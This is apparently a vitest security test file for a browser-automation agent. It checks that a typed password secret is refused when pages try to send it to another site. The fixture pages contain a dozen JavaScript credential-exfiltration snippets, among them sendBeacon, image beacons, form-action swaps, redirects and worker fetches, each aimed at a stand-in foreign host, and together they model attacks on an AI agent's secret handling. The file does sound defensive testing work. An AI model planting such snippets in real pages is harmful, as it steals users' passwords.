import type { BrowserSession, PageView } from '@runwright/contract';
import { expect, it } from 'vitest';
import { twoSites } from './two-sites.test-helpers.ts';

const { signal } = new AbortController();
/** Host, address, headers and body of each request. */
const received: { readonly host: string; readonly text: string }[] = [];

const field = `<input type="password" name="word" aria-label="Password">`;
const form = (attributes: string) => `<form method="post" ${attributes}>${field}<button>Go</button></form>`;
/** A form of the own site whose script has the form as `form`. */
const script = (body: string) => `${form('action="/in"')}<script>
    const form = document.forms[0];
    ${body}
  </script>`;

/** Documents by path. Each has a button that sends the password to another site in its way. */
const pagesFor = (evil: string) => ({
  '/redirecting': form('action="/307"'),
  '/permanent': form('action="/308"'),
  '/window': form('action="/307" target="_blank"'),
  '/swapped': script(`form.oninput = () => { form.action = '${evil}'; };`),
  '/script': script(
    `form.action = "javascript:void fetch('${evil}', {method:'POST', mode:'no-cors', body: new URLSearchParams(new FormData(form))})";`,
  ),
  '/address': script(`form.onsubmit = () => { form.method = 'get'; form.action = '${evil}'; };`),
  '/beacon': script(
    `form.onsubmit = (event) => { event.preventDefault(); navigator.sendBeacon('${evil}', JSON.stringify({ word: form.word.value })); };`,
  ),
  '/image': script(
    `form.onsubmit = (event) => { event.preventDefault(); new Image().src = '${evil}?' + btoa(form.word.value); };`,
  ),
  '/header': script(
    `form.onsubmit = (event) => { event.preventDefault(); fetch('${evil}', { headers: { Accept: form.word.value }, mode: 'no-cors' }); };`,
  ),
  '/fragment': script(
    `form.onsubmit = (event) => { event.preventDefault(); location.href = '${evil}#' + form.word.value; };`,
  ),
  '/redirected-fetch': script(
    `form.onsubmit = (event) => { event.preventDefault(); fetch('/307', { method: 'POST', body: form.word.value, mode: 'no-cors' }); };`,
  ),
  '/worker':
    script(`const source = "onmessage = ({ data }) => fetch('${evil}', { method: 'POST', body: data, mode: 'no-cors' })";
      const worker = new Worker(URL.createObjectURL(new Blob([source])));
      form.onsubmit = (event) => { event.preventDefault(); worker.postMessage(form.word.value); };`),
  '/own': form('action="/in"'),
});
const sites = twoSites({
  secrets: { '{{secret.shop.password.1}}': 'correct horse battery' },
  answer({ request, body }, response) {
    const { url = '', headers } = request;
    received.push({ host: headers.host ?? '', text: `${url} ${JSON.stringify(headers)} ${body}` });
    const status = Number(url.slice(1));
    if (status !== 307 && status !== 308) return false;
    response.writeHead(status, { location: `${sites.foreign}/in` }).end();
    return true;
  },
  pages: ({ foreign }) => pagesFor(`${foreign}/in`),
});

const idOf = (view: PageView, name: string): string =>
  view.elements().find((element) => element.name === name)?.id ?? '';

/** Types the password and sends the form; answers with what the click reported, until an event has come. */
async function submit(session: BrowserSession, path: string) {
  received.length = 0;
  await session.page.act({ action_type: 'goto_url', url: sites.own + path }, { epoch: 0, signal });
  const view = await session.page.read({ mode: 'action', signal });
  const typed = await session.page.act(
    { action_type: 'input_text', id: idOf(view, 'Password'), text: '{{secret.shop.password.1}}' },
    { epoch: view.epoch, signal },
  );
  expect(typed.status).toBe('ok');
  return session.page.act({ action_type: 'click', id: idOf(view, 'Go') }, { epoch: view.epoch, signal });
}

const isRefused = async (path: string): Promise<void> => {
  // The document that gets the first secret of a session was open before it.
  const session = await sites.open();
  const { events } = await submit(session, path);
  const refusal = {
    type: 'request_refused',
    origin: sites.foreign,
    reason: `\`shop\` may not go to \`${sites.foreign}\`.`,
  };
  expect(events).toContainEqual(refusal);
  expect(received.filter(({ host }) => host.startsWith('localhost'))).toEqual([]);
  await session.close();
};
it.each(['/redirecting', '/image'])(
  'a request that carries a secret to another site is refused: %s',
  { tags: ['security'] },
  isRefused,
);
it.each([
  '/permanent',
  '/window',
  '/swapped',
  '/script',
  '/address',
  '/beacon',
  '/header',
  '/fragment',
  '/redirected-fetch',
  '/worker',
])(
  'a request that carries a secret to another site is refused: %s',
  { tags: ['security', 'extended'] },
  isRefused,
);

it('a request that carries a secret to its site goes through, in each session by its own rules', async () => {
  const [session, other] = [await sites.open(), await sites.open({ site: sites.foreign })];
  await other.page.act({ action_type: 'goto_url', url: `${sites.foreign}/own` }, { epoch: 0, signal });
  const view = await other.page.read({ mode: 'action', signal });
  const text = '{{secret.shop.password.1}}';
  const typing = { action_type: 'input_text', id: idOf(view, 'Password'), text } as const;
  expect((await other.page.act(typing, { epoch: view.epoch, signal })).status).toBe('ok');
  const { events } = await submit(session, '/own');
  expect(events.filter(({ type }) => type === 'request_refused')).toEqual([]);
  expect(received.map(({ text }) => text).join()).toContain('word=correct+horse+battery');
  await Promise.all([session.close(), other.close()]);
});
